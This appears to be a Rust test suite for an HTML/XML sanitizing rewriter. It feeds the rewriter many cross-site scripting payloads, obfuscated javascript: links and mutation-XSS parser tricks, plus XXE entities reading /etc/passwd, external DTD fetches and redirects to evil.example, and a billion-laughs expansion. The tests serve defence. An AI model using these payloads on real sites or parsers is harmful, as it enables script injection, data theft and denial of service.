//! Documents that try to act, each in every form that a document has: as XHTML, as XML that has to become HTML, as a
//! whole of its own, in UTF-16, and with references replaced by what should break out of wherever it is put.

mod strict;

use strict::acting;
use yueli_markup::document::{RewriteOptions, rewrite};

const XHTML: &str = "http://www.w3.org/1999/xhtml";

/// Checks everything that can become of a document.
fn harmless(source: &[u8], what: &str) {
    // Once as it is, and once with each reference replaced by something that should break out of where it is.
    let breakout = "\"'</style><script>x</script>]]>--><img src=x onerror=x>\n";
    for replaced in [None, Some(breakout), Some("javascript:x"), Some("/javascript%3Ax")] {
        let made = rewrite(source, &RewriteOptions::default(), &mut |_| replaced.map(str::to_owned));
        let found = acting(&made.bytes, made.media_type);
        assert!(
            found.is_empty(),
            "{what}: {found:#?}\nin {}\nof {}",
            String::from_utf8_lossy(&made.bytes),
            String::from_utf8_lossy(source)
        );
    }
}

/// Checks a snippet in every place that can hold one.
fn check(snippets: &[&str]) {
    for snippet in snippets {
        let page =
            format!("<html xmlns=\"{XHTML}\"><head><title>t</title></head><body>{snippet}</body></html>");
        let head = format!("<html xmlns=\"{XHTML}\"><head>{snippet}</head><body/></html>");
        let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\">{snippet}</svg>");
        let broken = format!("<html><body><p><b>a</p>{snippet}<i></b></body></html>");
        let capitals = format!("<HTML><BODY>{}</BODY></HTML>", snippet.to_uppercase());
        let (in_svg, in_math) = (format!("<b><svg>{snippet}"), format!("<b><math><mtext>{snippet}"));
        let in_table = format!("<b><table><tr><select>{snippet}");
        for document in [&page, &head, &svg, &broken, &capitals, &in_svg, &in_math, &in_table, *snippet] {
            harmless(document.as_bytes(), snippet);
            let utf16 = document.encode_utf16().flat_map(u16::to_le_bytes);
            harmless(&[vec![0xff, 0xfe], utf16.collect()].concat(), snippet);
        }
    }
}

#[test]
fn scripts_in_every_namespace() {
    check(&[
        "<script>x</script>",
        "<script src='a.js'/>",
        "<SCRIPT\n>x</SCRIPT\t>",
        "<script type='module'>import 'a'</script>",
        "<script async='' defer='' crossorigin='' src='data:text/javascript,x'></script>",
        "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>x</h:script>",
        "<html:script>x</html:script>",
        "<xhtml:script xmlns:xhtml='http://www.w3.org/1999/xhtml' src='a.js'/>",
        "<script xmlns='http://www.w3.org/2000/svg' href='a.js'/>",
        "<script xmlns='http://www.w3.org/1999/xhtml'>x</script>",
        "<math xmlns='http://www.w3.org/1998/Math/MathML'><svg:script xmlns:svg='http://www.w3.org/2000/svg'>x</svg:script></math>",
        "<svg><script xlink:href='a.js'/><script>x&#10;y</script><script><![CDATA[x]]></script></svg>",
        "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><script>x</script></body></foreignObject></svg>",
        "<script><script>x</script></script>y</script>",
        "<script/><script>x",
        "<script <b>x</script>",
        "<scr<script>ipt>x</scr</script>ipt>",
        "<template><script>x</script><img src='a' onerror='x'/></template>",
        "<div><template shadowrootmode='open'><script>x</script></template></div>",
        "<handler xmlns='http://www.w3.org/2000/svg' type='text/javascript' ev:event='load'>x</handler>",
    ]);
}

#[test]
fn attributes_that_hear_events() {
    check(&[
        "<p onclick='x'/>",
        "<p ONCLICK='x' OnLoad=x/>",
        "<p\nonclick\n=\n'x'/>",
        "<p\u{c}onclick='x'/>",
        "<p/onclick='x'/onload=x>",
        "<p a='b'onclick='x'/>",
        "<p a=\"b\" onclick=\"x\"\"/>",
        "<p \u{0}onclick='x'/>",
        "<p on\u{0}click='x'/>",
        "<p x:onclick='y' xmlns:x='urn:x'/>",
        "<p on='x' oN='y'/>",
        "<svg onload='x'><animate onbegin='x' onend='y' onrepeat='z' attributeName='x' dur='1s'/></svg>",
        "<body onload='x' onpageshow='y' onhashchange='z'/>",
        "<input autofocus='' onfocus='x'/><select autofocus='autofocus' onfocus='x'/>",
        "<details open='' ontoggle='x'/><marquee onstart='x'/><video onerror='x' onloadstart='y'/>",
        "<p style='animation:a 1s' onanimationstart='x' ontransitionend='y' onwebkitanimationend='z'/>",
        "<math><maction actiontype='statusline#javascript:x' onmouseover='y'>a</maction></math>",
        "<p onclick='x",
        "<p onclick=x",
        "<p title='&quot;&gt;&lt;img src=a onerror=x&gt;'/>",
        "<p title='</p><img src=a onerror=x>'/>",
        "<p =onclick='x' =\"onclick=\"x/>",
    ]);
}

#[test]
fn links_that_run() {
    check(&[
        "<a href='javascript:x'>a</a>",
        "<a href='  JaVaScRiPt :x'>a</a>",
        "<a href='java\nscript:x'>a</a><a href='java&#9;script:x'>b</a><a href='java&#x0A;script:x'>c</a>",
        "<a href='&#1;javascript:x'>a</a><a href='&#106;avascript:x'>b</a><a href='&#X6A;avascript:x'>c</a>",
        "<a href='javascript&colon;x'>a</a><a href='java&Tab;script:x'>b</a><a href='java&NewLine;script:x'>c</a>",
        "<a href='javascript&#58;x'>a</a><a href='javascript&#x3a;x'>b</a><a href='javascript&#0000000000000058;x'>c</a>",
        "<a href='&#106javascript:x'>a</a><a href='&#x6Aavascript:x'>b</a><a href='javascript&#58x'>c</a>",
        "<a href='vbscript:x'>a</a><a href='livescript:x'>b</a><area href='javascript:x'/>",
        "<a href='data:text/html,&lt;script&gt;x&lt;/script&gt;'>a</a><a href='DATA:Text/HTML;base64,eA=='>b</a>",
        "<a href='data:application/xhtml+xml,x'>a</a><a href='data:image/svg+xml,x'>b</a><a href='data:text/xml,x'>c</a>",
        "<a href='data:application/rss+xml,x'>a</a><a href='data:multipart/related,x'>b</a>",
        "<svg><a xlink:href='javascript:x'>a</a><a href='java\tscript:x'>b</a></svg>",
        "<svg xmlns:l='http://www.w3.org/1999/xlink'><a l:href='javascript:x'/></svg>",
        "<svg><use href='data:image/svg+xml,x#a'/><use xlink:href='javascript:x'/></svg>",
        "<svg><a><animate attributeName='href' to='javascript:x'/><set attributeName='xlink:href' to='javascript:x'/></a></svg>",
        "<svg><a><animate attributeName=' HREF ' values='a;javascript:x' from='javascript:y' by='javascript:z'/></a></svg>",
        "<svg><set attributeName='onload' to='x'/><animateTransform attributeName='x:href' to='javascript:x'/></svg>",
        "<math href='javascript:x'><mi xlink:href='javascript:y'>a</mi></math>",
        "<img src='javascript:x' lowsrc='javascript:y' dynsrc='javascript:z' longdesc='javascript:a'/>",
        "<body background='javascript:x'/><table background='javascript:y'/><q cite='javascript:z'/>",
        "<video poster='javascript:x'/><img usemap='javascript:x'/><input type='image' src='javascript:y'/>",
        "<a href='#' ping='https://evil.example/'>a</a>",
        "<a href='&amp;#106;avascript:x'>a</a><a href='%6aavascript:x'>b</a>",
        "<!--x--><a href='/javascript%3Ax'>a</a>",
    ]);
}

#[test]
fn what_leaves_or_sends() {
    check(&[
        "<meta http-equiv='refresh' content='0;url=https://evil.example/'/>",
        "<meta HTTP-EQUIV=' ReFresh ' CONTENT='0;javascript:x'/>",
        "<meta HTTP-EQUIV='content-type' http-equiv='refresh' content='0;url=a'/>",
        "<meta http-equiv='content-type' HTTP-EQUIV='refresh' content='0;url=a'/>",
        "<svg><meta http-equiv='refresh' content='0'/></svg><h:meta http-equiv='refresh' content='0'/>",
        "<meta http-equiv='Content-Security-Policy' content=\"script-src *\"/><meta http-equiv='set-cookie' content='a=b'/>",
        "<base href='https://evil.example/' target='_top'/>",
        "<form action='https://evil.example/'><button formaction='javascript:x'>a</button><input formaction='b'/></form>",
        "<form id='f'/><button form='f' formaction='https://evil.example/' formtarget='_top'>a</button>",
        "<link rel='prefetch' href='https://evil.example/'/><link REL='stylesheet' rel='dns-prefetch' href='//evil.example'/>",
        "<link rel='preconnect' href='//evil.example'/><link rel='modulepreload' href='a.js'/><link rel='manifest' href='m'/>",
        "<link rel='import' href='a.html'/><html manifest='a.appcache'/>",
    ]);
}

#[test]
fn pages_within_the_page() {
    check(&[
        "<iframe src='https://evil.example/'/><iframe src='//evil.example/'/><iframe src='\\\\evil.example\\'/>",
        "<iframe src='/\\evil.example/'/><iframe src=' h&#9;ttps://evil.example/'/>",
        "<iframe srcdoc='&lt;script&gt;x&lt;/script&gt;'/><iframe SrcDoc='x'></iframe>",
        "<iframe src='javascript:x'/><iframe src='data:text/html,x'/><frame src='javascript:x'/>",
        "<iframe><script>x</script><img src='a' onerror='x'/></iframe>",
        "<object data='data:text/html,x'/><object data='javascript:x' classid='clsid:1' codebase='https://evil.example/'/>",
        "<object data='https://evil.example/'><param name='src' value='javascript:x'/></object>",
        "<embed src='https://evil.example/'/><embed src='data:image/svg+xml,x' code='javascript:x'/>",
        "<applet code='a.class' archive='https://evil.example/a.jar'/>",
    ]);
}

#[test]
fn what_parsers_read_differently() {
    check(&[
        "<noscript><p title='</noscript><script>x</script>'></p></noscript>",
        "<noscript><img src='a' onerror='x'/></noscript>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=a onerror=x&gt;'/>",
        "<math><mtext><table><mglyph><style><math href='javascript:x'>a</math></style></mglyph></table></mtext></math>",
        "<svg><style><img title='</style><img src=a onerror=x>'/></style></svg>",
        "<svg><p><style><a title='</style><img src=a onerror=x>'>",
        "<svg></p><style><a id='</style><img src=1 onerror=x>'>",
        "<math><annotation-xml encoding='text/html'><script>x</script></annotation-xml></math>",
        "<svg><desc><script>x</script></desc><title><img src=a onerror=x></title></svg>",
        "<![CDATA[<script>x</script>]]><![CDATA[><img src=a onerror=x>]]>",
        "<svg><![CDATA[><img src=a onerror=x>]]></svg>",
        "<!--><img src=a onerror=x>--><!---><img src=a onerror=x>--><!-- --!><img src=a onerror=x>-->",
        "<!-- a --\n><script>x</script>--><!-a><script>x</script>",
        "<?a ><script>x</script>?><!a><script>x</script>",
        "<xmp><script>x</script></xmp><noembed><img onerror=x src=a></noembed><noframes><script>x</script></noframes>",
        "<title></title><script>x</script></title><textarea></textarea><script>x</script></textarea>",
        "<title/><style/><textarea/><script>x</script>",
        "<plaintext><script>x</script>",
        "<style></style ><script>x</script></style><style><!--</style><script>x</script>--></style>",
        "<style>a{b:'</style><img src=a onerror=x>'}</style>",
        "<select><template><script>x</script></template><style></select><img src=a onerror=x></style>",
        "<table><td><a href='javascript:x'><table><a onclick='x'></table>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>",
        "</p><svg><br><script>x</script><a xlink:href=javascript:x>",
        "<é onclick='x'><_ onclick='x'><: onclick='x'>",
        "</é onclick='x'></_><script>x</script>",
        "<a\u{3000}onclick='x'/><a\u{a0}onclick='x'/><a\u{b}onclick='x'/>",
        "<image src='a' onerror='x'/><isindex action='javascript:x'/>",
    ]);
}

#[test]
fn what_a_document_declares() {
    let billion: String = (1..20)
        .map(|level| format!("<!ENTITY l{level} '{}'>", format!("&l{};", level - 1).repeat(20)))
        .collect();
    for source in [
        "<!DOCTYPE a [<!ENTITY s '<script>x</script>'>]><a>&s;</a>".to_owned(),
        "<!DOCTYPE a [<!ENTITY s '&#60;script>x&#60;/script>'>]><html><body>&s;</body></html>".to_owned(),
        "<!DOCTYPE a [<!ENTITY j 'javascript'>]><html><body><a href='&j;:x'/><a href='java&j;'/></body></html>".to_owned(),
        "<!DOCTYPE a [<!ENTITY j 'java'><!ENTITY k '&j;script:'>]><svg><a xlink:href='&k;x'/></svg>".to_owned(),
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'https://evil.example/a.dtd'>%p;]><a>&x;</a>".to_owned(),
        "<!DOCTYPE a [<!ATTLIST p onclick CDATA 'x'>]><html><body><p/></body></html>".to_owned(),
        format!("<!DOCTYPE a [<!ENTITY l0 'lol'>{billion}]><html><body title='&l19;'>&l19;&l19;</body></html>"),
        "<?xml-stylesheet type='text/xsl' href='a.xsl'?><html><body/></html>".to_owned(),
        "<?xml-stylesheet type='application/xml' href='data:text/xml,x'?><a/>".to_owned(),
        "<?xml-stylesheet href='javascript:x' type='text/css' media='\u{1}&quot;\"?><a/>".to_owned(),
        "<?xml-stylesheet type=\"text/xsl\" href=\"#a\"?><a><b id='a'/></a>".to_owned(),
    ] {
        harmless(source.as_bytes(), &source);
        harmless(format!("{source}<b>").as_bytes(), &source);
    }
}

/// What an entity comes to is worked out twice for an attribute, and between the two the budget may run out.
#[test]
fn a_spent_budget_does_not_change_what_was_judged() {
    let long = "a".repeat(150_000);
    for uses in 0..8 {
        let spend = "<p title='&a;'/>".repeat(uses);
        let link = "<a href='&a;javascript:x'/><a href='&a;&b;:x'/>".repeat(3);
        let source = format!(
            "<!DOCTYPE a [<!ENTITY a '{long}'><!ENTITY b 'javascript'>]><html><body>{spend}{link}</body></html>"
        );
        harmless(source.as_bytes(), "a spent budget");
    }
}

/// What is only said may say anything.
#[test]
fn harmless_words_stay() {
    let source = "<html><head><title>JavaScript: a tour</title></head><body><p title=\"javascript: a tour\">on load: \
        <img alt=\"JavaScript: the cover\" src=\"a.png\"/></p></body></html>";
    let made = rewrite(source.as_bytes(), &RewriteOptions::default(), &mut |_| None);
    let text = String::from_utf8(made.bytes).unwrap();
    assert!(text.contains("title=\"javascript: a tour\"") && text.contains("alt=\"JavaScript: the cover\""));
}

/// The judge sees what it should: else all of the above would prove nothing.
#[test]
fn the_judge_sees_what_acts() {
    for (document, media_type) in [
        ("<a><b><script>x</script></b></a>", "application/xml"),
        ("<a><b><c onclick='x'/></b></a>", "application/xml"),
        ("<a><meta HTTP-EQUIV='content-type' http-equiv='refresh'/></a>", "application/xml"),
        ("<?xml-stylesheet type=\"text/xsl\" href=\"a\"?><a/>", "application/xml"),
        ("<a><b></a>", "application/xml"),
        ("<body><div><p><a href='javascript&colon;x'>a</a>", "text/html"),
        ("<body><div><noscript><p title='</noscript><img src onerror=x>'>", "text/html"),
        ("<body><template><div><script>x</script></div></template>", "text/html"),
        ("<body><div><svg><a xlink:href='javascript:x'>", "text/html"),
        ("<body><div><svg><![CDATA[><img src=a onerror=x>]]>", "text/html"),
        ("<body><div><base href='a'>", "text/html"),
    ] {
        let seen = acting(document.as_bytes(), media_type);
        let cdata = document.contains("CDATA");
        assert_eq!(seen.is_empty(), cdata, "{document}: {seen:?}");
    }
}
